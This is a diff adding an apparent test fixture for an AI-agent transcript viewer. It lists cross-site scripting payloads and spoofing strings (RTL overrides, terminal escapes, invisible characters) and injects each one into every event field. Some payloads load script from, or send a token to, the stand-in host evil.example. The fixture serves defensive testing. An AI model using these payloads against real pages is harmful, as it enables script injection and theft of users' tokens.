@@ -1,0 +1,70 @@
+// Text that other viewers of transcripts ran, drew wrong or were redirected by; in every field that
+// a recorded program can fill.
+
+const RTL = "\u202e";
+export const PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script href=data:,alert(1) /></svg>",
+    '"><img src=//evil.example/a.png>',
+    "'><script src=//evil.example/a.js></script>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<style>@import '//evil.example/a.css';</style>",
+    "<form action=//evil.example/><input name=token></form>",
+    "<a href=javascript:alert(1)>click</a>",
+    "[click](javascript:alert(1))",
+    "![picture](https://evil.example/a.png)",
+    "[text]: https://evil.example/ 'title'",
+    "javascript:alert(1)//https://evil.example/",
+    "data:text/html,<script>alert(1)</script>",
+    "https://good.example@evil.example/path?q=1#x",
+    "https://evil.example/\"onmouseover=\"alert(1)",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
+    "__proto__ constructor toString hasOwnProperty",
+    `access granted ${RTL}dettimrep ton\u2066 end\u2069`,
+    "zero\u200bwidth\u200djoined\ufeff and soft\u00adhyphen",
+    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J bell\u0007 back\b\b\bspace",
+    "nul\u0000 in \u0001 the \u001f middle \u007f \u0085 \u009b31m",
+    "line\u2028separator paragraph\u2029separator\r\ncarriage\rreturn",
+    "tag\u{e0041}\u{e0042}characters \ufff9anchor\ufffb",
+    "`code` ```fence\n<b>x</b>\n``` **bold** # heading\n# heading\n| a | b |",
+    "مرحبا שלום \u0301\u0301\u0301\u0301 👩‍👩‍👧 \u{1f3f4} z\u0335\u0322a\u0337l\u0334g\u0335o",
+];
+
+/** Events with the payload in every member that the page reads, one of each type. */
+export function eventsWith(text, number) {
+    const id = `h${number}`;
+    return [
+        { type: "user.message", content: text },
+        { type: "agent.message", content: [{ type: "text", text }] },
+        { type: "agent.thinking", content: text },
+        { type: "agent.tool_use", call_id: id, name: text, input: { command: text, file_path: text, description: text, old_string: text, new_string: `${text}\n${text}`, [text]: text } },
+        { type: "agent.tool_result", call_id: id, content: text, is_error: true },
+        { type: "agent.tool_use", call_id: `${id}b`, name: "Look", input: { [text]: text, path: text } },
+        { type: "agent.tool_result", call_id: `${id}b`, content: [{ type: "text", text }, { type: text, data: text }, { type: "image", source: { type: "url", url: text } }, { type: "image", source: { type: "base64", media_type: "image/svg+xml", data: "PHN2Zy8+" } }] },
+        { type: "user.message", content: text, session_thread_id: `thread ${number} ${text}` },
+        { type: "context.injected", what: "continuation", text, begin: 0, until: 0 },
+        { type: "plan.updated", steps: [{ text, state: "in_progress" }], current: text },
+        { type: "session.error", error: { type: text, message: text } },
+        { type: "outcome.recorded", tried: [text], next: [text] },
+        { type: "graph.entity_upserted", entity_type: "person", entity_id: `${number} ${text}`.slice(0, 100), properties: { name: text } },
+        { type: "source.found", url: text, title: text, found_by: "model" },
+        { type: "research.step", number: number + 1, description: text, reasoning: text },
+        { type: "transcript.entry", raw_format: "claude-code", entry: { type: text, text } },
+        { type: "custom.kind", [text]: text, text, summary: text },
+    ];
+}
